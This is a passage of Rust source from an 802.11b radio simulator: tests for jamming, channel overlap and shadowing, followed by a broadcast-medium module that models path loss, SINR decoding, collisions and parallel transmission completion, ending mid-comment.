        let (h2, e2) = m.begin_tx(SimTime::ZERO, jammer, bytes(200), Bitrate::B11);
        let d1 = m.complete_tx(e1, h1);
        let _ = m.complete_tx(e2, h2);
        assert!(
            d1.is_empty(),
            "adjacent-channel leakage must swamp the marginal frame"
        );
        // Without the jammer the same frame decodes.
        let mut m2 = medium();
        let tx = m2.add_radio(Pos::new(0.0, 0.0), 6, 15.0);
        let _rx = m2.add_radio(Pos::new(60.0, 0.0), 6, 15.0);
        let (h, e) = m2.begin_tx(SimTime::ZERO, tx, bytes(200), Bitrate::B11);
        assert_eq!(m2.complete_tx(e, h).len(), 1);
    }

    #[test]
    fn nonoverlapping_channel_never_interferes() {
        // Channels 1 and 6 (the paper's Figure 1 split): even a blaring
        // co-located transmitter cannot corrupt the other channel.
        let mut m = medium();
        let tx = m.add_radio(Pos::new(0.0, 0.0), 1, 15.0);
        let _rx = m.add_radio(Pos::new(60.0, 0.0), 1, 15.0);
        let blaster = m.add_radio(Pos::new(60.0, 1.0), 6, 30.0);
        let (h1, e1) = m.begin_tx(SimTime::ZERO, tx, bytes(200), Bitrate::B11);
        let (h2, e2) = m.begin_tx(SimTime::ZERO, blaster, bytes(200), Bitrate::B11);
        let d1 = m.complete_tx(e1, h1);
        let _ = m.complete_tx(e2, h2);
        assert_eq!(d1.len(), 1, "channel-6 energy must not touch channel 1");
    }

    #[test]
    fn midflight_registered_radio_hears_nothing() {
        let mut m = medium();
        let a = m.add_radio(Pos::new(0.0, 0.0), 1, 15.0);
        let (h, end) = m.begin_tx(SimTime::ZERO, a, bytes(500), Bitrate::B1);
        // A radio appears mid-flight: no rx power was sampled for it.
        let late = m.add_radio(Pos::new(5.0, 0.0), 1, 15.0);
        let ds = m.complete_tx(end, h);
        assert!(
            !ds.iter().any(|d| d.to == late),
            "mid-flight radio heard a frame it has no sampled power for"
        );
        assert_eq!(m.halfduplex_misses, 0, "no counter corruption");
        assert_eq!(m.sinr_drops, 0, "no counter corruption");
        assert_eq!(m.frames_sent, 1);
    }

    #[test]
    fn completed_txs_are_pruned_and_do_not_interfere() {
        let mut m = medium();
        let a = m.add_radio(Pos::new(0.0, 0.0), 1, 15.0);
        let b = m.add_radio(Pos::new(10.0, 0.0), 1, 15.0);
        // A long run of back-to-back frames: the working set must stay
        // bounded instead of accumulating completed records.
        let mut t = SimTime::ZERO;
        for _ in 0..100 {
            let (h, end) = m.begin_tx(t, a, bytes(100), Bitrate::B11);
            let ds = m.complete_tx(end, h);
            assert_eq!(ds.len(), 1, "sequential frames never collide");
            assert_eq!(ds[0].to, b);
            t = end;
        }
        assert!(
            m.tx_backlog() <= 2,
            "completed txs must be pruned, kept {}",
            m.tx_backlog()
        );
        assert_eq!(
            m.sinr_drops, 0,
            "non-overlapping history is not interference"
        );
        // And pruning must not rewrite physics: a completed frame that
        // still overlaps an in-flight one keeps interfering.
        let (h1, e1) = m.begin_tx(t, a, bytes(1000), Bitrate::B1);
        let t2 = SimTime(t.as_nanos() + 1000);
        let (h2, e2) = m.begin_tx(t2, b, bytes(10), Bitrate::B11);
        let _ = m.complete_tx(e2, h2);
        let d1 = m.complete_tx(e1, h1);
        assert!(
            !d1.iter().any(|d| d.to == b),
            "b transmitted during a's frame: still half-duplex deaf"
        );
    }

    #[test]
    fn shadowing_perturbs_rssi_deterministically() {
        let mk = || {
            let p = MediumParams {
                shadowing_sigma_db: 6.0,
                ..MediumParams::default()
            };
            let mut m = Medium::new(p, Seed(7));
            let a = m.add_radio(Pos::new(0.0, 0.0), 1, 15.0);
            let _b = m.add_radio(Pos::new(10.0, 0.0), 1, 15.0);
            let (h, end) = m.begin_tx(SimTime::ZERO, a, bytes(10), Bitrate::B1);
            m.complete_tx(end, h)
        };
        let d1 = mk();
        let d2 = mk();
        assert_eq!(d1.len(), d2.len());
        if let (Some(x), Some(y)) = (d1.first(), d2.first()) {
            assert_eq!(x.rssi_dbm, y.rssi_dbm, "same seed, same shadowing");
            assert_ne!(x.rssi_dbm, -55.0, "shadowing actually applied");
        }
    }
}
