//! The shared broadcast medium.
//!
//! Protocol flow per transmission:
//!
//! 1. A MAC hands bytes to [`Medium::begin_tx`]; the medium computes the
//!    airtime and the received power at every radio that can possibly
//!    hear the frame (sampling shadowing deterministically from the
//!    medium RNG when enabled).
//! 2. The world schedules a completion event at the returned end time and
//!    then calls [`Medium::complete_tx`], which decides per radio whether
//!    the frame decodes: on-channel, above sensitivity, and with
//!    sufficient SINR against every time-overlapping transmission
//!    (collisions, including adjacent-channel leakage).
//! 3. Each successful [`Delivery`] carries the bytes and measured RSSI —
//!    the exact observables of a real NIC, whether it belongs to the
//!    addressed station or to an attacker sniffing in monitor mode.
//!
//! # Scaling: per-frame cost is O(audible), not O(registry)
//!
//! With shadowing disabled (`shadowing_sigma_db == 0.0`, every experiment
//! except E1) received power is a pure function of geometry, so the
//! medium takes three shortcuts that keep a campus-scale registry out of
//! the per-frame path:
//!
//! * a lazily-filled **pairwise path-loss cache** keyed on (radio pair,
//!   position epochs) — the `sqrt`/`powi`/`log10` chain runs once per
//!   pair per move, not once per frame ([`crate::cache`]);
//! * a **uniform spatial grid** plus per-source **audible-row cache**, so
//!   `begin_tx` stores a sparse `(radio, dBm)` list covering only radios
//!   inside the decode/CCA horizon ([`crate::grid`],
//!   [`propagation::max_range_m`]);
//! * in-flight transmissions live in a **generation-checked slab** (a
//!   [`TxHandle`] resolves with a bounds check, no hashing) and are
//!   indexed **by channel** (only channels within the 5-channel
//!   interaction span can exchange energy) and **by source** (the
//!   half-duplex check), both as dense slot vectors.
//!
//! The audible floor is a **uniform far-field cutoff** (PR 9): a signal
//! below it can neither decode, nor trip CCA, nor contribute to an
//! interference sum. The sparse path is bit-identical to the dense fill
//! under that cutoff: a sparse row omits exactly the entries the dense
//! path's explicit floor comparison rejects, mid-flight moves pin the
//! begin-era sample into an override list (floor-checked like any other
//! sample), and interference sums run in the same ascending-id order.
//! The cutoff is also what makes city-scale interference tractable: a
//! completion's interferer set is culled to transmitters whose audible
//! disc can reach the candidate set at all (`plan_complete`), instead
//! of recomputing provably sub-floor far-field power per pair. With
//! `sigma > 0` the dense fill is kept as-is so the sequential
//! registration-order RNG draws — and therefore every E1 shadowing
//! result — stay byte-identical.

use std::sync::Arc;

use bytes::Bytes;
use rogue_sim::{Seed, SimRng, SimTime};

use crate::cache::PathLossCache;
use crate::grid::SpatialGrid;
use crate::propagation::{
    aci_rejection_db, dbm_to_mw, max_range_m, path_loss_db, Bitrate, Pos,
    CHANNEL_SPACING_NONOVERLAP,
};

/// Identifies a registered radio.
#[derive(Clone, Copy, PartialEq, Eq, Hash, Debug)]
pub struct RadioId(pub u32);

/// Handle to an in-flight transmission: a slab slot plus the slot's
/// generation at allocation time. Both lookups and liveness checks are
/// a bounds check + compare — no hashing anywhere on the per-frame path.
#[derive(Clone, Copy, PartialEq, Eq, Hash, Debug)]
pub struct TxHandle {
    slot: u32,
    gen: u32,
}

/// Tunable propagation / receiver parameters.
#[derive(Clone, Debug)]
pub struct MediumParams {
    /// Path-loss exponent (2.0 free space … 3.5 dense indoor).
    pub path_loss_exponent: f64,
    /// Reference loss at 1 m, dB.
    pub ref_loss_db: f64,
    /// Log-normal shadowing standard deviation, dB (0 disables).
    pub shadowing_sigma_db: f64,
    /// Thermal-plus-card noise floor, dBm.
    pub noise_floor_dbm: f64,
    /// Clear-channel-assessment threshold, dBm.
    pub cca_threshold_dbm: f64,
}

impl Default for MediumParams {
    fn default() -> Self {
        MediumParams {
            path_loss_exponent: 3.0,
            ref_loss_db: 40.0,
            shadowing_sigma_db: 0.0,
            noise_floor_dbm: -100.0,
            cca_threshold_dbm: -85.0,
        }
    }
}

#[derive(Clone, Debug)]
struct Radio {
    pos: Pos,
    channel: u8,
    tx_power_dbm: f64,
    enabled: bool,
    /// Bumped by every position change; keys the path-loss cache.
    pos_epoch: u64,
}

/// A source's audible set: `(radio index, received dBm)` sorted by
/// index, shared between the per-source row cache and every sparse tx
/// begun while the geometry holds.
type AudibleRow = Arc<Vec<(u32, f64)>>;

/// Received power samples of one transmission.
#[derive(Clone, Debug)]
enum TxPower {
    /// Power at every radio registered at begin time, by index — the
    /// σ > 0 shadowing path, whose sequential registration-order RNG
    /// draws force a full fill.
    Dense(Vec<f64>),
    /// Only the radios at or above the audible floor, sorted by index
    /// (shared with the per-source row cache), plus begin-era samples
    /// pinned by `set_pos` for radios that moved mid-flight.
    Sparse {
        audible: AudibleRow,
        overrides: Vec<(u32, f64)>,
    },
}

#[derive(Clone, Debug)]
struct Transmission {
    id: u64,
    src: RadioId,
    channel: u8,
    bitrate: Bitrate,
    start: SimTime,
    end: SimTime,
    bytes: Bytes,
    /// Transmitter geometry frozen at begin time: the shard-routing key
    /// for the completion event, and the anchor of the far-field
    /// interferer cull in [`Medium::plan_complete`].
    src_pos: Pos,
    tx_power_dbm: f64,
    /// Radios registered later are treated as out of range.
    radios_at_start: u32,
    /// Geometry epoch at begin time. While it still equals the medium's
    /// current epoch, no radio has been added or moved since this tx
    /// began — the precondition for the far-field interferer cull.
    geom_epoch_at_start: u64,
    power: TxPower,
    completed: bool,
}

/// One transmission slab slot: the slot's reuse generation plus the
/// resident transmission (`None` while free). The generation bump on
/// free makes every outstanding [`TxHandle`] to the old occupant stale.
struct TxSlot {
    gen: u32,
    tx: Option<Transmission>,
}

/// The precomputed outcome of completing one transmission: the pure,
/// read-only half of [`Medium::complete_tx`], produced by
/// [`Medium::plan_complete`] (possibly on another thread) and applied by
/// [`Medium::commit_complete`].
///
/// A plan is valid while the channel-version snapshot it carries still
/// matches the medium: every mutation that could change a completion
/// outcome (a new overlapping transmission, a retune, an enable/disable)
/// bumps the version of the channels it can affect. A stale plan is
/// simply recomputed — `plan_complete` is a pure function of medium
/// state, so replanning at commit time reproduces exactly what a serial
/// execution would have computed.
#[derive(Debug)]
pub struct TxPlan {
    handle: TxHandle,
    end: SimTime,
    deliveries: Vec<Delivery>,
    halfduplex_misses: u64,
    sinr_drops: u64,
    /// `(channel, version)` over the completing tx's interaction span —
    /// at most [`MAX_SPAN`] channels, held inline so a plan carries no
    /// bookkeeping allocation.
    versions: [(u8, u64); MAX_SPAN],
    nversions: u8,
}

impl TxPlan {
    /// The transmission this plan completes.
    pub fn handle(&self) -> TxHandle {
        self.handle
    }

    /// The deliveries this plan will produce when committed. The
    /// parallel burst dispatcher reads these *before* the commit point
    /// to build per-node receive tasks from a frozen plan.
    pub fn deliveries(&self) -> &[Delivery] {
        &self.deliveries
    }
}

/// A successfully decoded frame at one radio.
#[derive(Clone, Debug)]
pub struct Delivery {
    /// The receiving radio.
    pub to: RadioId,
    /// Frame bytes (shared, zero-copy).
    pub bytes: Bytes,
    /// Received signal strength, dBm.
    pub rssi_dbm: f64,
    /// Channel the frame was received on.
    pub channel: u8,
    /// Rate it was decoded at.
    pub bitrate: Bitrate,
}

/// Widest possible interaction span: `channel ± (spacing - 1)` channels.
const MAX_SPAN: usize = 2 * (CHANNEL_SPACING_NONOVERLAP as usize - 1) + 1;

/// Channels whose transmissions can exchange energy with `channel`
/// (within the 5-channel non-overlap spacing), clamped to 1..=14.
fn interacting_channels(channel: u8) -> std::ops::RangeInclusive<usize> {
    let lo = channel
        .saturating_sub(CHANNEL_SPACING_NONOVERLAP - 1)
        .max(1);
    let hi = (channel + CHANNEL_SPACING_NONOVERLAP - 1).min(14);
    lo as usize..=hi as usize
}

/// The broadcast medium: all registered radios, all in-flight and recent
/// transmissions.
pub struct Medium {
    params: MediumParams,
    /// `min(weakest sensitivity, CCA threshold)`: below this received
    /// power a radio can neither decode a frame nor sense the channel
    /// busy, so `begin_tx` need not store it.
    audible_floor_dbm: f64,
    radios: Vec<Radio>,
    /// Transmission slab: a [`TxHandle`]'s slot indexes here directly.
    /// `None` marks a free slot; the generation is bumped on every free
    /// so stale handles can never alias a reused slot.
    txs: Vec<TxSlot>,
    free_tx: Vec<u32>,
    /// Retained tx slots bucketed by channel (index 1..=14). Only
    /// buckets within the interaction span are walked by the decode /
    /// CCA paths; interferers are explicitly id-sorted before any float
    /// sum, so bucket order itself carries no meaning.
    by_channel: [Vec<u32>; 15],
    /// Retained tx slots by source radio index — the half-duplex check.
    /// Dense (one entry per radio, nearly all empty), no hashing.
    by_src: Vec<Vec<u32>>,
    grid: SpatialGrid,
    cache: PathLossCache,
    /// Per-source audible rows, valid while `geom_epoch` is unchanged.
    /// Dense, indexed by radio.
    audible_rows: Vec<Option<(u64, AudibleRow)>>,
    /// Scratch for the grid query in [`Self::audible_row`] (reused).
    cand_scratch: Vec<u32>,
    /// Scratch for the freed-source list in [`Self::prune`] (reused).
    prune_src_scratch: Vec<u32>,
    /// Bumped whenever the radio set or any position changes.
    geom_epoch: u64,
    /// Per-channel mutation counters (index 1..=14), the conflict
    /// detector for precomputed [`TxPlan`]s: bumped by every mutation
    /// that can change a pending completion's outcome on that channel —
    /// `begin_tx` (new interferer / half-duplex source), `set_channel`
    /// (old and new), `set_enabled`, `add_radio`. Position moves need no
    /// bump: begin-era power samples are pinned by `set_pos`, so a
    /// completion's outcome is move-invariant by construction (see the
    /// `midflight_move_*` tests).
    channel_versions: [u64; 15],
    /// Bumped by *every* mutating entry point (`add_radio`, `set_pos`,
    /// `set_channel`, `set_enabled`, `begin_tx`, `commit_complete`).
    /// Unlike `channel_versions` this tracks no semantics — it exists so
    /// the parallel burst dispatcher can `debug_assert` that its
    /// read-only execution region really did leave the medium untouched.
    mutation_epoch: u64,
    row_reuses: u64,
    force_dense: bool,
    rng: SimRng,
    next_tx_id: u64,
    /// Collision/decode statistics.
    pub frames_sent: u64,
    /// Receptions lost because the radio was itself transmitting during
    /// the frame's airtime (half-duplex deafness).
    pub halfduplex_misses: u64,
    /// Receptions destroyed by insufficient SINR against overlapping
    /// transmissions (true collisions, incl. adjacent-channel leakage).
    pub sinr_drops: u64,
}

impl Medium {
    /// New medium with the given parameters; `seed` drives shadowing.
    pub fn new(params: MediumParams, seed: Seed) -> Medium {
        let audible_floor_dbm = Bitrate::MIN_SENSITIVITY_DBM.min(params.cca_threshold_dbm);
        Medium {
            params,
            audible_floor_dbm,
            radios: Vec::new(),
            txs: Vec::new(),
            free_tx: Vec::new(),
            by_channel: std::array::from_fn(|_| Vec::new()),
            by_src: Vec::new(),
            grid: SpatialGrid::default(),
            cache: PathLossCache::default(),
            audible_rows: Vec::new(),
            cand_scratch: Vec::new(),
            prune_src_scratch: Vec::new(),
            geom_epoch: 0,
            channel_versions: [0; 15],
            mutation_epoch: 0,
            row_reuses: 0,
            force_dense: false,
            rng: SimRng::new(seed.fork(0x9097)),
            next_tx_id: 0,
            frames_sent: 0,
            halfduplex_misses: 0,
            sinr_drops: 0,
        }
    }

    /// Total destroyed receptions, either cause (the pre-split counter).
    pub fn collisions(&self) -> u64 {
        self.halfduplex_misses + self.sinr_drops
    }

    /// Opaque counter advanced by every mutating entry point. Equal
    /// values before and after a code region prove the region performed
    /// no medium mutation (the parallel dispatcher's staging invariant).
    pub fn mutation_epoch(&self) -> u64 {
        self.mutation_epoch
    }

    /// Register a radio. Radios are half-duplex and initially enabled.
    pub fn add_radio(&mut self, pos: Pos, channel: u8, tx_power_dbm: f64) -> RadioId {
        assert!((1..=14).contains(&channel), "invalid 802.11b channel");
        let idx = self.radios.len() as u32;
        self.radios.push(Radio {
            pos,
            channel,
            tx_power_dbm,
            enabled: true,
            pos_epoch: 0,
        });
        self.grid.insert(idx, pos);
        self.by_src.push(Vec::new());
        self.audible_rows.push(None);
        self.geom_epoch += 1;
        self.channel_versions[channel as usize] += 1;
        self.mutation_epoch += 1;
        RadioId(idx)
    }

    /// Move a radio (client mobility). Invalidates the cached path
    /// losses and audible rows involving this radio; transmissions
    /// already in flight keep their begin-time power samples.
    pub fn set_pos(&mut self, id: RadioId, pos: Pos) {
        let ri = id.0 as usize;
        let old = self.radios[ri].pos;
        if old == pos {
            return;
        }
        // Pin the begin-era sample into every retained sparse tx that
        // doesn't already cover this radio: it may still be read as
        // interference while the tx (or an overlapper) is in flight, and
        // the dense fill would have sampled the pre-move geometry. Pin
        // even a sub-floor sample — `covered` must become true on the
        // *first* move, or a second move would pin from intermediate
        // geometry instead of begin-era geometry. Read-time floor
        // comparisons reject sub-floor values on both paths identically.
        let (ref_loss, exponent) = (self.params.ref_loss_db, self.params.path_loss_exponent);
        for s in &mut self.txs {
            let Some(t) = s.tx.as_mut() else { continue };
            if id.0 >= t.radios_at_start || t.src == id {
                continue;
            }
            if let TxPower::Sparse { audible, overrides } = &mut t.power {
                let covered = audible.binary_search_by_key(&id.0, |e| e.0).is_ok()
                    || overrides.iter().any(|e| e.0 == id.0);
                if !covered {
                    let p =
                        t.tx_power_dbm - path_loss_db(t.src_pos.distance(old), ref_loss, exponent);
                    overrides.push((id.0, p));
                }
            }
        }
        self.grid.relocate(id.0, old, pos);
        self.radios[ri].pos = pos;
        self.radios[ri].pos_epoch += 1;
        self.geom_epoch += 1;
        self.mutation_epoch += 1;
    }

    /// Current position of a radio.
    pub fn pos(&self, id: RadioId) -> Pos {
        self.radios[id.0 as usize].pos
    }

    /// Position-change epoch of a radio. Bumped by every [`set_pos`]
    /// call that actually moves the radio; the pairwise path-loss cache
    /// keys on it, so a bump proves the cached losses were invalidated.
    ///
    /// [`set_pos`]: Medium::set_pos
    pub fn pos_epoch(&self, id: RadioId) -> u64 {
        self.radios[id.0 as usize].pos_epoch
    }

    /// Retune a radio (channel hopping during scans / site audits).
    /// Pure frequency change: path-loss cache and audible rows stay
    /// valid.
    pub fn set_channel(&mut self, id: RadioId, channel: u8) {
        assert!((1..=14).contains(&channel), "invalid 802.11b channel");
        let old = self.radios[id.0 as usize].channel;
        self.radios[id.0 as usize].channel = channel;
        // A retune changes which pending completions this radio can
        // receive (or deafen via half-duplex) — invalidate plans on both
        // the channel it left and the one it joined.
        self.channel_versions[old as usize] += 1;
        self.channel_versions[channel as usize] += 1;
        self.mutation_epoch += 1;
    }

    /// Channel a radio is currently tuned to.
    pub fn channel(&self, id: RadioId) -> u8 {
        self.radios[id.0 as usize].channel
    }

    /// Enable or disable (power off) a radio.
    pub fn set_enabled(&mut self, id: RadioId, enabled: bool) {
        let r = &mut self.radios[id.0 as usize];
        r.enabled = enabled;
        let ch = r.channel;
        self.channel_versions[ch as usize] += 1;
        self.mutation_epoch += 1;
    }

    /// Deterministic (shadowing-free) received power estimate of `from`'s
    /// transmitter at `to`'s position — used by tooling (site-audit range
    /// predictions), not by the decode path. Served from the shared
    /// path-loss cache.
    pub fn rssi_estimate_dbm(&self, from: RadioId, to: RadioId) -> f64 {
        let f = &self.radios[from.0 as usize];
        let t = &self.radios[to.0 as usize];
        f.tx_power_dbm
            - self.cache.loss_db(
                (from.0, f.pos, f.pos_epoch),
                (to.0, t.pos, t.pos_epoch),
                self.params.ref_loss_db,
                self.params.path_loss_exponent,
            )
    }

    /// The audible set of `src` at its current position: every other
    /// radio whose received power clears the audible floor, sorted by
    /// index. Served from the per-source row cache while the geometry is
    /// unchanged; rebuilt from the spatial grid + path-loss cache
    /// otherwise.
    fn audible_row(&mut self, src: u32, src_pos: Pos, tx_power_dbm: f64) -> AudibleRow {
        if let Some((epoch, row)) = &self.audible_rows[src as usize] {
            if *epoch == self.geom_epoch {
                self.row_reuses += 1;
                return Arc::clone(row);
            }
        }
        let floor = self.audible_floor_dbm;
        let range = max_range_m(
            tx_power_dbm,
            floor,
            self.params.ref_loss_db,
            self.params.path_loss_exponent,
        );
        let mut cand = std::mem::take(&mut self.cand_scratch);
        cand.clear();
        if range.is_finite() {
            // The pad only absorbs float rounding in the range solve;
            // membership is re-checked exactly below.
            self.grid
                .collect_in_square(src_pos, range * (1.0 + 1e-9) + 0.5, &mut cand);
        } else {
            cand.extend(0..self.radios.len() as u32);
        }
        let src_epoch = self.radios[src as usize].pos_epoch;
        let mut audible = Vec::with_capacity(cand.len());
        for &ri in &cand {
            if ri == src {
                continue;
            }
            let r = &self.radios[ri as usize];
            let loss = self.cache.loss_db(
                (src, src_pos, src_epoch),
                (ri, r.pos, r.pos_epoch),
                self.params.ref_loss_db,
                self.params.path_loss_exponent,
            );
            let p = tx_power_dbm - loss;
            if p >= floor {
                audible.push((ri, p));
            }
        }
        self.cand_scratch = cand;
        audible.sort_unstable_by_key(|e| e.0);
        let row = Arc::new(audible);
        self.audible_rows[src as usize] = Some((self.geom_epoch, Arc::clone(&row)));
        row
    }

    /// Begin transmitting `bytes` from `src` at `bitrate` on the radio's
    /// current channel. Returns a handle and the airtime-end instant at
    /// which the caller must invoke [`Medium::complete_tx`].
    pub fn begin_tx(
        &mut self,
        now: SimTime,
        src: RadioId,
        bytes: Bytes,
        bitrate: Bitrate,
    ) -> (TxHandle, SimTime) {
        let radio = &self.radios[src.0 as usize];
        assert!(radio.enabled, "transmitting on a disabled radio");
        let end = now + bitrate.airtime(bytes.len());
        let channel = radio.channel;
        let tx_power = radio.tx_power_dbm;
        let src_pos = radio.pos;

        let sigma = self.params.shadowing_sigma_db;
        let power = if sigma > 0.0 || self.force_dense {
            // Dense fill: power at every radio, shadowing drawn from the
            // medium RNG in registration order (the σ > 0 contract).
            let mut rx_power = Vec::with_capacity(self.radios.len());
            for r in &self.radios {
                let mut p = tx_power
                    - path_loss_db(
                        src_pos.distance(r.pos),
                        self.params.ref_loss_db,
                        self.params.path_loss_exponent,
                    );
                if sigma > 0.0 {
                    p += self.rng.gaussian(0.0, sigma);
                }
                rx_power.push(p);
            }
            TxPower::Dense(rx_power)
        } else {
            TxPower::Sparse {
                audible: self.audible_row(src.0, src_pos, tx_power),
                overrides: Vec::new(),
            }
        };

        let id = self.next_tx_id;
        self.next_tx_id += 1;
        self.frames_sent += 1;
        let tx = Transmission {
            id,
            src,
            channel,
            bitrate,
            start: now,
            end,
            bytes,
            src_pos,
            tx_power_dbm: tx_power,
            radios_at_start: self.radios.len() as u32,
            geom_epoch_at_start: self.geom_epoch,
            power,
            completed: false,
        };
        // Reuse a freed slab slot when one exists. Safe because prune
        // removes freed slots from every bucket before returning, so a
        // reused slot can never already sit in a channel/source bucket.
        let slot = match self.free_tx.pop() {
            Some(s) => {
                self.txs[s as usize].tx = Some(tx);
                s
            }
            None => {
                self.txs.push(TxSlot {
                    gen: 0,
                    tx: Some(tx),
                });
                (self.txs.len() - 1) as u32
            }
        };
        let gen = self.txs[slot as usize].gen;
        self.by_channel[channel as usize].push(slot);
        self.by_src[src.0 as usize].push(slot);
        // A new in-flight tx is a potential interferer / half-duplex
        // source for every pending completion within the interaction
        // span of its channel; their plans must be recomputed.
        self.channel_versions[channel as usize] += 1;
        self.mutation_epoch += 1;
        self.prune(now);
        (TxHandle { slot, gen }, end)
    }

    /// Resolve a handle against the slab, panicking on a stale or freed
    /// slot exactly where the old id→slot map would have panicked.
    #[inline]
    fn tx_ref(&self, h: TxHandle) -> &Transmission {
        let s = &self.txs[h.slot as usize];
        assert_eq!(s.gen, h.gen, "unknown or pruned transmission");
        s.tx.as_ref().expect("unknown or pruned transmission")
    }

    /// Complete a transmission, returning all successful deliveries. Must
    /// be called exactly once, at the end time returned by `begin_tx`.
    ///
    /// Equivalent to [`Self::plan_complete`] followed immediately by
    /// [`Self::commit_complete`] — the serial loop and the sharded loop
    /// run the *same* decision code, which is what makes the sharded
    /// execution bit-identical by construction.
    pub fn complete_tx(&mut self, now: SimTime, handle: TxHandle) -> Vec<Delivery> {
        let plan = self.plan_complete(now, handle);
        self.commit_complete(plan)
    }

    /// The pure half of [`Self::complete_tx`]: compute every delivery
    /// and counter delta for the transmission ending at `now`, without
    /// mutating anything. `&self` only — the sharded loop calls this
    /// from the rayon pool for all completions in a lockstep window.
    pub fn plan_complete(&self, now: SimTime, handle: TxHandle) -> TxPlan {
        let tx = self.tx_ref(handle);
        assert!(!tx.completed, "complete_tx called twice");
        assert_eq!(tx.end, now, "complete_tx at wrong time");
        let tx_channel = tx.channel;

        // Time-overlapping txs on channels close enough to interact, in
        // ascending-id order — the order the historical full-backlog
        // scan summed interference in (float addition order is
        // observable). The slot list lives in a per-thread scratch
        // buffer: plan_complete runs on the rayon pool in the sharded
        // loop, so the scratch must not be shared medium state.
        //
        // Far-field cull: every candidate receiver of a sparse tx lies
        // within the tx's audible radius of its (frozen) source, and a
        // sparse interferer's stored samples cover only radios within
        // *its* audible radius of *its* source. If those two discs
        // cannot intersect, every (interferer, candidate) lookup is a
        // guaranteed sub-floor miss — the interferer contributes
        // nothing above the cutoff (§ uniform audible floor, see
        // `scan_candidates`) and is skipped wholesale. Valid only while
        // no radio has been added or moved since either tx began
        // (`geom_epoch` guard): a mid-flight move re-pins samples as
        // overrides, which the disc argument cannot see. In a city-scale
        // world this one distance check removes ~99% of the interferer
        // set per plan.
        let cull_radius = (self.geom_epoch == tx.geom_epoch_at_start
            && matches!(tx.power, TxPower::Sparse { .. }))
        .then(|| {
            max_range_m(
                tx.tx_power_dbm,
                self.audible_floor_dbm,
                self.params.ref_loss_db,
                self.params.path_loss_exponent,
            )
        })
        .filter(|r| r.is_finite());
        INTERF_SCRATCH.with(|cell| {
            let mut interferers = cell.borrow_mut();
            interferers.clear();
            for ch in interacting_channels(tx_channel) {
                for &oslot in &self.by_channel[ch] {
                    if oslot == handle.slot {
                        continue;
                    }
                    let o = self.txs[oslot as usize].tx.as_ref().unwrap();
                    if o.start >= tx.end || tx.start >= o.end {
                        continue;
                    }
                    if let Some(r_tx) = cull_radius {
                        if self.geom_epoch == o.geom_epoch_at_start
                            && matches!(o.power, TxPower::Sparse { .. })
                        {
                            let r_o = max_range_m(
                                o.tx_power_dbm,
                                self.audible_floor_dbm,
                                self.params.ref_loss_db,
                                self.params.path_loss_exponent,
                            );
                            // The pad mirrors the audible-row build's
                            // rounding absorption; it only ever keeps an
                            // interferer the exact check would drop.
                            let reach = (r_tx + r_o) * (1.0 + 1e-9) + 1.0;
                            if reach.is_finite() && o.src_pos.distance(tx.src_pos) > reach {
                                continue;
                            }
                        }
                    }
                    interferers.push(oslot);
                }
            }
            interferers.sort_unstable_by_key(|&s| self.txs[s as usize].tx.as_ref().unwrap().id);

            let noise_mw = dbm_to_mw(self.params.noise_floor_dbm);
            let mut out = Vec::new();
            let mut halfduplex_misses = 0;
            let mut sinr_drops = 0;

            // Candidate receivers: every begin-time radio for a dense
            // fill, only the audible set for a sparse one. Both ascend
            // by radio index, so delivery order matches the historical
            // dense scan — and neither materializes a candidate list.
            match &tx.power {
                TxPower::Dense(v) => self.scan_candidates(
                    v.iter().enumerate().map(|(i, &p)| (i, p)),
                    tx,
                    handle.slot,
                    &interferers,
                    noise_mw,
                    &mut out,
                    &mut halfduplex_misses,
                    &mut sinr_drops,
                ),
                TxPower::Sparse { audible, .. } => self.scan_candidates(
                    audible.iter().map(|&(i, p)| (i as usize, p)),
                    tx,
                    handle.slot,
                    &interferers,
                    noise_mw,
                    &mut out,
                    &mut halfduplex_misses,
                    &mut sinr_drops,
                ),
            }

            let mut versions = [(0u8, 0u64); MAX_SPAN];
            let mut nversions = 0u8;
            for ch in interacting_channels(tx_channel) {
                versions[nversions as usize] = (ch as u8, self.channel_versions[ch]);
                nversions += 1;
            }
            TxPlan {
                handle,
                end: now,
                deliveries: out,
                halfduplex_misses,
                sinr_drops,
                versions,
                nversions,
            }
        })
    }

    /// The per-candidate decode loop of [`Self::plan_complete`], generic
    /// over the (dense or sparse) candidate iterator so neither path
    /// allocates a candidate list.
    #[allow(clippy::too_many_arguments)]
    fn scan_candidates<I: Iterator<Item = (usize, f64)>>(
        &self,
        candidates: I,
        tx: &Transmission,
        tx_slot: u32,
        interferers: &[u32],
        noise_mw: f64,
        out: &mut Vec<Delivery>,
        halfduplex_misses: &mut u64,
        sinr_drops: &mut u64,
    ) {
        let (tx_src, tx_channel, tx_bitrate) = (tx.src, tx.channel, tx.bitrate);
        let (tx_start, tx_end) = (tx.start, tx.end);
        for (ri, signal_dbm) in candidates {
            let radio = &self.radios[ri];
            let rid = RadioId(ri as u32);
            if rid == tx_src || !radio.enabled || radio.channel != tx_channel {
                continue;
            }
            if signal_dbm < tx_bitrate.sensitivity_dbm() {
                continue;
            }
            // Half-duplex: a radio that transmitted during any part of
            // our airtime heard nothing.
            let was_transmitting = self.by_src[rid.0 as usize].iter().any(|&oslot| {
                if oslot == tx_slot {
                    return false;
                }
                let o = self.txs[oslot as usize].tx.as_ref().unwrap();
                o.start < tx_end && tx_start < o.end
            });
            if was_transmitting {
                *halfduplex_misses += 1;
                continue;
            }
            // Interference from every other overlapping transmission.
            let mut interf_mw = 0.0;
            for &oslot in interferers {
                let o = self.txs[oslot as usize].tx.as_ref().unwrap();
                if o.src == rid {
                    continue;
                }
                let offset = o.channel.abs_diff(radio.channel);
                let Some(rej) = aci_rejection_db(offset) else {
                    continue;
                };
                // Uniform audible-floor cutoff (PR 9): power below the
                // floor was already invisible to decode and CCA; it now
                // contributes no interference either. The dense arm
                // stores sub-floor samples, so the explicit comparison
                // keeps the dense and sparse paths bit-identical: a
                // sparse row omits exactly the entries the dense check
                // rejects.
                let Some(p) = stored_rx_power_at(o, ri) else {
                    continue;
                };
                if p < self.audible_floor_dbm {
                    continue;
                }
                interf_mw += dbm_to_mw(p - rej);
            }
            let sinr_db = signal_dbm - 10.0 * (noise_mw + interf_mw).log10();
            if sinr_db < tx_bitrate.sinr_threshold_db() {
                *sinr_drops += 1;
                continue;
            }
            out.push(Delivery {
                to: rid,
                bytes: tx.bytes.clone(),
                rssi_dbm: signal_dbm,
                channel: tx_channel,
                bitrate: tx_bitrate,
            });
        }
    }

    /// Is `plan` still guaranteed to match what `plan_complete` would
    /// compute right now? True while no mutation has touched any channel
    /// in the completing tx's interaction span since the plan was made.
